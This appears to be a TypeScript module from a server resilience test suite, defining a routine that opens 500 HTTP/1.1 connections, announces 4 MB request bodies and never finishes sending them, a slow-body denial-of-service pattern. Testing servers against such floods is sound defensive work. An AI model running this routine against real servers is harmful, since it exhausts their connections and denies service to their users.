import { once } from "node:events";
import type { Attacker } from "./attacker.ts";

/** Announces bodies of 4 MB on 500 connections of HTTP/1.1, and never sends the end of any. */
export async function holdBodies(attacker: Attacker, head: string): Promise<void> {
  await attacker.repeat(500, async () => {
    const socket = attacker.connect().resume();
    socket.write(head);
    socket.write(Buffer.alloc(3_999_990, 32));
    await once(socket, "close", { signal: attacker.signal });
    attacker.count("closed");
  });
}
